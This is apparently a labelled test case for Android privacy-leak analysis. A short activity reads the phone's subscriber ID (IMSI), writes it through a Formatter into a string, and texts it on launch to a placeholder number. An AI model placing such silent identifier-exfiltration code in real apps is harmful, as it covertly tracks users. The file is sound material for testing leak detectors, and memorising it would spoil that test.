// about       A Formatter prints the value into the builder that it was made for, the sent one.
// leak        DEV_IMSI sms
package cn.example.flow;

import android.app.Activity;
import android.content.Context;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import java.util.Formatter;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE);
    StringBuilder kept = new StringBuilder();
    StringBuilder sent = new StringBuilder("id:");
    // Prints into what is sent.
    Formatter formatter = new Formatter(sent);
    formatter.format("%s/%d", phone.getSubscriberId(), kept.length());
    formatter.close();
    SmsManager.getDefault().sendTextMessage("+15550100", null, sent.toString(), null, null);
  }
}
